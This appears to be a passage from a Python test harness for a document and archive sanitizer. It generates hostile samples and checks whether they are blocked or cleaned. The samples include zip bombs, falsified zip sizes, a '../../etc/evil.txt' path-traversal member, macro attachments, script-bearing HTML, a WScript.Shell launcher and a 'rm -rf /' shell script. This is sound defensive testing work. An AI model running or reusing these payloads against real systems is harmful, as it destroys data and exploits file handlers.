# ---------------------------------------------------------------- archives
def archive_samples():
    inner = zipbytes([("doc.docm", docm()), ("run.exe", b"MZ\x90\x00" + b"\0" * 200)])
    yield "nested.zip", zipbytes([("a/readme.txt", "hello"), ("a/inner.zip", inner),
                                  ("../../etc/evil.txt", "x")]), \
        "sanitized", ["ooxml.vba", "archive.member_blocked"], "zip"
    z = zipbytes([("x.txt", "deep")])
    for _ in range(6):
        z = zipbytes([("next.zip", z)])
    yield "deep.zip", z, "blocked", [], None
    yield "ratio_bomb.zip", zipbytes([("zeros.txt", b"\0" * (64 << 20))]), "blocked", [], None
    # declared sizes lie: the central directory says 10 bytes, the data inflates to 64 MB
    lie = bytearray(zipbytes([("zeros.txt", b"\0" * (64 << 20))]))
    cd = lie.rfind(b"PK\x01\x02")
    struct.pack_into("<I", lie, cd + 24, 10)
    lh = lie.find(b"PK\x03\x04")
    struct.pack_into("<I", lie, lh + 22, 10)
    yield "lying_sizes.zip", bytes(lie), "blocked", [], None
    b = io.BytesIO()
    import tarfile
    with tarfile.open(fileobj=b, mode="w") as t:
        for n, d in (("page.html", b"<p onclick='x()'>hi</p>"), ("tool.exe", b"MZ" + b"\0" * 100)):
            ti = tarfile.TarInfo(n)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    yield "bundle.tar", b.getvalue(), "sanitized", ["html.event_handler", "archive.member_blocked"], "zip"
    yield "bundle.7z", sevenzip([("doc.docm", docm()), ("a/page.htm", b"<p onclick='x()'>hi</p>"),
                                 ("setup.exe", b"MZ" + b"\0" * 100)]), \
        "sanitized", ["ooxml.vba", "html.event_handler", "archive.member_blocked"], "zip"


def sevenzip(members):
    """A 7z archive written by libarchive's own writer (through ctypes): no 7z tool is
    needed, and the reader under test is a different code path."""
    import ctypes
    la = ctypes.CDLL("libarchive.so.13")
    la.archive_write_new.restype = ctypes.c_void_p
    la.archive_entry_new.restype = ctypes.c_void_p
    for f in ("archive_write_set_format_7zip", "archive_write_close", "archive_write_free"):
        getattr(la, f).argtypes = [ctypes.c_void_p]
    la.archive_write_open_memory.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_size_t,
                                             ctypes.POINTER(ctypes.c_size_t)]
    la.archive_entry_set_pathname.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
    la.archive_entry_set_size.argtypes = [ctypes.c_void_p, ctypes.c_int64]
    la.archive_entry_set_filetype.argtypes = [ctypes.c_void_p, ctypes.c_uint]
    la.archive_entry_set_perm.argtypes = [ctypes.c_void_p, ctypes.c_uint]
    la.archive_write_header.argtypes = [ctypes.c_void_p, ctypes.c_void_p]
    la.archive_write_data.argtypes = [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_size_t]
    la.archive_write_data.restype = ctypes.c_ssize_t
    la.archive_entry_free.argtypes = [ctypes.c_void_p]
    buf = ctypes.create_string_buffer(1 << 22)
    used = ctypes.c_size_t(0)
    a = la.archive_write_new()
    assert la.archive_write_set_format_7zip(a) == 0
    assert la.archive_write_open_memory(a, buf, len(buf), ctypes.byref(used)) == 0
    for n, d in members:
        e = la.archive_entry_new()
        la.archive_entry_set_pathname(e, n.encode())
        la.archive_entry_set_size(e, len(d))
        la.archive_entry_set_filetype(e, 0o100000)
        la.archive_entry_set_perm(e, 0o644)
        assert la.archive_write_header(a, e) == 0
        assert la.archive_write_data(a, d, len(d)) == len(d)
        la.archive_entry_free(e)
    assert la.archive_write_close(a) == 0
    la.archive_write_free(a)
    return buf.raw[:used.value]


def check_zip(name, inp, out, variant):
    r = subprocess.run(["unzip", "-tq", out], capture_output=True)
    if r.returncode != 0:
        fail(name, "unzip -t failed")
        return
    z = zipfile.ZipFile(out)
    for n in z.namelist():
        if n.startswith("/") or ".." in n.split("/"):
            fail(name, f"member name {n} escapes")
        if n.endswith((".exe", ".docm")):
            fail(name, f"{n} passed unchanged")
        if n.endswith(".zip"):
            zi = zipfile.ZipFile(io.BytesIO(z.read(n)))
            for m in zi.namelist():
                if m.endswith((".exe", ".docm")):
                    fail(name, f"nested member {m} passed unchanged")


# ---------------------------------------------------------------- mail
def mail_samples():
    html = "<html><body><p>会議の資料です。</p><script>alert(1)</script></body></html>"
    msg = ("From: a@example.jp\r\nTo: b@example.jp\r\nSubject: =?ISO-2022-JP?B?GyRCMnFEOxsoQg==?=\r\n"
           "Date: Mon, 1 Jan 2024 00:00:00 +0900\r\nMIME-Version: 1.0\r\n"
           "Content-Type: multipart/mixed; boundary=\"B\"\r\n\r\n--B\r\n"
           "Content-Type: text/html; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n\r\n").encode()
    msg += html.encode("iso-2022-jp") + b"\r\n--B\r\n"
    msg += (b"Content-Type: text/plain; charset=Shift_JIS\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
            "シフトJISの本文".encode("shift_jis") + b"\r\n--B\r\n")
    import base64
    msg += (b"Content-Type: application/vnd.ms-word.document.macroEnabled.12; name=\"a.docm\"\r\n"
            b"Content-Disposition: attachment; filename=\"a.docm\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
            base64.encodebytes(docm()) + b"\r\n--B\r\n")
    msg += (b"Content-Type: application/octet-stream; name=\"setup.exe\"\r\n"
            b"Content-Disposition: attachment; filename=\"setup.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
            base64.encodebytes(b"MZ\x90\x00" + b"\0" * 100) + b"\r\n--B--\r\n")
    yield "jp.eml", msg, "sanitized", ["mail.html_to_text", "ooxml.vba", "mail.attachment_blocked"], "mail"
    yield "jp_removed.eml", msg, "sanitized", ["mail.attachment_removed"], "mail:remove"


def check_mail(name, inp, out, variant):
    m = email.message_from_bytes(open(out, "rb").read(), policy=email.policy.default)
    if not m["X-Bunri-Sanitized"]:
        fail(name, "no X-Bunri-Sanitized header")
    texts = []
    for part in m.walk():
        ct = part.get_content_type()
        if ct == "text/html":
            fail(name, "an HTML part is left")
        if ct == "text/plain":
            texts.append(part.get_content())
        fn = part.get_filename()
        if fn and (fn.endswith(".exe") or fn.endswith(".docm")):
            fail(name, f"attachment {fn} passed")
        if variant == "mail:remove" and fn:
            fail(name, f"attachment {fn} kept although removal is configured")
        if fn and fn.endswith(".docx"):
            z = zipfile.ZipFile(io.BytesIO(part.get_payload(decode=True)))
            if any("vbaProject" in n for n in z.namelist()):
                fail(name, "macro left in the attached document")
    body = "\n".join(texts)
    if "会議の資料です。" not in body or "シフトJISの本文" not in body:
        fail(name, "Japanese text lost: " + body[:200])
    if "alert" in body:
        fail(name, "script text carried into the plain text")


# ---------------------------------------------------------------- everything else
def other_samples():
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, 62, 1) + b"\0" * 200
    yield "report.pdf", elf, "blocked", [], None
    yield "empty.txt", b"", "blocked", [], None
    yield "run.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n", "blocked", [], None
    yield "shell.sh", b"#!/bin/sh\nrm -rf /\n", "blocked", [], None
    # the sandbox's address-space limit set below what the parser needs
    yield "oom.pdf", page_pdf(), "blocked", [], "oom"
    yield "big.txt", b"x" * (2 << 20), "blocked", [], "too_big"
    yield "notes.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 70, "blocked", [], None


CHECKS = {"ole2": check_ole2, "pdf": check_pdf, "pdf:uri_remove": check_pdf, "ooxml": check_ooxml, "rtf": check_rtf,
          "html": check_html, "csv": check_csv, "image": check_image, "zip": check_zip,
          "mail": check_mail, "mail:remove": check_mail}


def run(binary, workdir, name, data, verdict, whats, variant):
    suffix = {"pdf": ".pdf", "pdf:uri_remove": ".pdf", "rtf": ".rtf", "html": ".html",
              "ooxml": ""}.get(variant or "", "")
    path = os.path.join(workdir, name + suffix)
    with open(path, "wb") as f:
        f.write(data)
    out = path + ".out"
    rep = path + ".json"
    cfg = None
    settings = {"pdf:uri_remove": 'pdf = { uri = "remove"; };\n',
                "mail:remove": 'mail = { attachments = "remove"; };\n',
                "oom": "sandbox = { memory_mb = 64; };\n",
                "too_big": "max_input_mb = 1;\n"}
    if variant in settings:
        cfg = os.path.join(workdir, name + ".cfg")
        with open(cfg, "w") as f:
            f.write(settings[variant])
    if os.path.exists(out):
        os.unlink(out)
    cmd = [binary, path, "-o", out, "--report", rep] + (["--config", cfg] if cfg else [])
    r = subprocess.run(cmd, capture_output=True, timeout=120)
    want_rc = 3 if verdict == "blocked" else 0
    if r.returncode != want_rc:
        fail(name, f"exit {r.returncode}, wanted {want_rc}: {r.stderr.decode(errors='replace')}")
        return
    report = json.load(open(rep))
    if report["verdict"] != verdict:
        fail(name, f"verdict {report['verdict']}, wanted {verdict} ({report.get('reason')})")
        return
    got = {x["what"] for x in report["removed"]}
    for w in whats:
        if w not in got:
            fail(name, f"no removal {w} reported (got {sorted(got)})")
    if verdict == "blocked":
        if os.path.exists(out):
            fail(name, "blocked but OUT was written")
        if not report.get("reason"):
            fail(name, "blocked without a reason")
        elif variant == "oom" and "memory" not in report["reason"]:
            fail(name, f"out of memory not reported: {report['reason']}")
        elif variant == "too_big" and "max_input_mb" not in report["reason"]:
            fail(name, f"size limit not reported: {report['reason']}")
        print(f"ok   {name}: blocked ({report['reason']})")
        return
    import hashlib
    if hashlib.sha256(open(out, "rb").read()).hexdigest() != report["sha256_out"]:
        fail(name, "sha256_out does not match OUT")
    CHECKS[variant](name, data, out, variant)
    print(f"ok   {name}: {verdict} {sorted(got)}")


def cli_errors(binary, workdir):
    """Exit 1 for bad arguments, an unreadable input and a bad config, with a message."""
    ok = os.path.join(workdir, "ok.txt")
    with open(ok, "w") as f:
        f.write("fine\n")
    bad = os.path.join(workdir, "bad.cfg")
    with open(bad, "w") as f:
        f.write('pdf = { uri = "sometimes"; };\nmail = { attachments = "sanitize"; bogus = 1; };\n')
    cases = [("no -o", [ok], None), ("two inputs", [ok, ok, "-o", ok + ".o"], None),
             ("missing input", [os.path.join(workdir, "nope"), "-o", ok + ".o"], "nope"),
             ("not a regular file", ["/dev/zero", "-o", ok + ".o"], "not a regular file"),
             ("bad config", [ok, "-o", ok + ".o", "--config", bad], "bad.cfg:1: uri must be"),
             ("bad config, second error", [ok, "-o", ok + ".o", "--config", bad], "bad.cfg:2: unknown setting \"bogus\"")]
    for label, args, msg in cases:
        r = subprocess.run([binary] + args, capture_output=True)
        err = r.stderr.decode(errors="replace")
        if r.returncode != 1:
            fail("cli " + label, f"exit {r.returncode}, wanted 1")
        elif msg and msg not in err:
            fail("cli " + label, f"message {msg!r} not in {err!r}")
        else:
            print(f"ok   cli {label}: exit 1")


def main():
    binary, workdir = sys.argv[1], sys.argv[2]
    os.makedirs(workdir, exist_ok=True)
    cli_errors(binary, workdir)
    samples = list(pdf_samples())
    samples.append(("pdf_objstm_js", objstm_pdf(workdir), "sanitized", ["pdf.javascript"], "pdf"))
    samples += [("macro.docm", docm(), "sanitized",
                 ["ooxml.vba", "ooxml.embedded_object", "ooxml.activex", "ooxml.external_relationship",
                  "ooxml.dde", "ooxml.macro_enabled_type", "ooxml.alt_chunk"], "ooxml"),
                ("media.docx", media_docx(), "sanitized", ["image.trailing_data", "ooxml.bad_image"], "ooxml"),
                ("macro.xlsm", xlsm(), "sanitized",
                 ["ooxml.macrosheet", "ooxml.external_link", "ooxml.macro_enabled_type",
                  "ooxml.data_connection"], "ooxml")]
    for gen in (ole2_samples, rtf_samples, html_samples, csv_samples, image_samples, archive_samples,
                mail_samples, other_samples):
        samples += list(gen())
    # an ASan build leaves RLIMIT_AS off (ASan reserves terabytes of shadow memory)
    asan = b"libasan" in subprocess.run(["ldd", binary], capture_output=True).stdout
    for s in samples:
        if asan and s[4] == "oom":
            print(f"skip {s[0]}: no address-space limit in an ASan build")
            continue
        run(binary, workdir, *s)
    print(f"{len(samples)} samples, {len(FAILS)} failures")
    return 1 if FAILS else 0


if __name__ == "__main__":
    sys.exit(main())
